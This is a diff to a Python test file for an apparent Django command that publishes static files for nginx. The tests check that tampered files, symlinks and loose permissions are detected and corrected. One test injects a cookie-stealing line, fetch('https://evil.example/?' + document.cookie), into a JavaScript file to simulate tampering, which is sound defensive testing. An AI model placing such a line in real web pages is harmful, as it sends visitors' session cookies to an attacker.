@@ -42,18 +42,46 @@ def test_every_collected_file_but_the_manifest_is_published_readable_by_nginx(co
     assert {path.stat().st_mode & 0o777 for path in public.rglob("*") if path.is_file()} == {0o644}
 
 
-def test_hashed_files_are_never_rewritten_unhashed_ones_follow_the_image_and_others_stay(collected, public):
+def test_files_in_place_are_left_alone_and_older_versions_files_stay(collected, public):
     publish(public)
     hashed = next(public.glob("site/css/site.*.css"))
-    hashed.write_text("as nginx serves it")  # a hashed name's content never changes: left alone
+    before = hashed.stat()
     unhashed = public / "site/css/site.css"
     unhashed.write_text("an older version's")
     older = public / "site/css/site.0123456789ab.css"  # a file of a version that ran before
     older.write_text("still linked from pages in browsers")
     publish(public)
-    assert hashed.read_text() == "as nginx serves it"
+    after = hashed.stat()
+    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)  # not even rewritten
     assert unhashed.read_bytes() == (collected / "site/css/site.css").read_bytes()
     assert older.read_text() == "still linked from pages in browsers"
+
+
+def test_a_tampered_file_is_replaced_by_the_images_copy_and_logged(collected, public, capsys):
+    publish(public)
+    theme = next(public.glob("admin/js/theme.*.js"))
+    name = theme.relative_to(public).as_posix()
+    theme.write_bytes(theme.read_bytes() + b"\nfetch('https://evil.example/?' + document.cookie);\n")
+    link = next(public.glob("site/css/site.*.css"))
+    link.unlink()
+    link.symlink_to(theme)  # a symlink where a file belongs: nginx refuses it, so the page breaks
+    loose = next(public.glob("admin/css/base.*.css"))
+    loose.chmod(0o666)  # same bytes, but anyone on the host could rewrite it later
+    call_command("publish_static", str(public))
+    for path in (theme, link, loose):
+        relative = path.relative_to(public).as_posix()
+        assert not path.is_symlink() and (path.stat().st_mode & 0o777) == 0o644, relative
+        assert path.read_bytes() == (collected / relative).read_bytes(), relative
+    out, err = capsys.readouterr()
+    assert f"static files: replaced {name}: it differed from this image's copy" in err.splitlines()
+    assert "(3 replaced)" in out
+
+
+def test_a_folder_another_account_could_write_into_is_closed(collected, public):
+    publish(public)
+    (public / "admin").chmod(0o777)
+    publish(public)
+    assert ((public / "admin").stat().st_mode & 0o777) == 0o755
 
 
 def test_a_full_disk_stops_with_one_line_no_partial_file_and_unhashed_names_untouched(
@@ -76,3 +104,13 @@ def test_a_full_disk_stops_with_one_line_no_partial_file_and_unhashed_names_unto
         publish(public)
     assert [path for path in public.rglob(".*")] == []  # the temporary file of the failed copy is gone
     assert (public / "site/css/site.css").read_text() == "the serving version's"  # hashed files go first
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="giving a folder to another uid needs root")
+def test_a_folder_of_another_account_stops_publishing_with_the_fix(collected, public):
+    publish(public)
+    os.chown(public / "admin", 33, 33)  # e.g. www-data's, from before the site had an account
+    with pytest.raises(
+        CommandError, match=r"admin belongs to uid 33, not this user \(on the host: sudo chown -R"
+    ):
+        publish(public)
